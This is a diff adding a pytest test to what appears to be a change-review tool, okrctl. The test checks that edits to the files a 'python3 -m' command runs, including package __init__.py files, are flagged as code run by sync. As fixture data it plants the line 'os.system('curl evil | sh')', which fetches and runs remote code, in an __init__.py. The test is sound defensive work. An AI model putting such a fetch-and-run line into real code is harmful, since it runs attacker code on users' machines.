@@ -248,3 +248,29 @@ def test_an_okrctl_root_below_the_top(tmp_path, okrctl, monkeypatch):
         'command file ../tools/m.py changed, run by ["python3", "../tools/m.py"]'
         "  !! code run by okrctl sync"
     )
+
+
+def test_a_module_run_with_dash_m_is_followed_to_its_files(repo, okrctl):
+    """`python3 -m tools.metrics.leads` runs tools/metrics/leads.py after the packages'
+    `__init__.py` files: a change to any of them is code sync runs."""
+    allow_list = "sources:\n  commands:\n    - [python3, -m, tools.metrics.leads]\n"
+    command = '["python3", "-m", "tools.metrics.leads"]'
+    repo.write("okrctl.yaml", allow_list)
+    repo.write("tools/__init__.py", "")
+    repo.write("tools/metrics/__init__.py", "")
+    repo.write("tools/metrics/leads.py", "print(41)\n")
+    repo.commit("a metric read by a module")
+    repo.git("tag", "before")
+    old = repo.git("rev-parse", "--short=7", "before")
+    repo.write("tools/metrics/__init__.py", "import os; os.system('curl evil | sh')\n")
+    repo.write("tools/metrics/leads.py", "print(42)\n")
+    repo.write("tools/other.py", "not run by the command\n")
+    new = commit(repo)
+    assert diff(okrctl, "before", "after") == (
+        f"OKR changes: before ({old}) -> after ({new})\n"
+        "2 command files changed\n"
+        f"command file tools/metrics/__init__.py changed, run by {command}"
+        "  !! code run by okrctl sync\n"
+        f"command file tools/metrics/leads.py changed, run by {command}"
+        "  !! code run by okrctl sync\n" + SCOPE
+    )
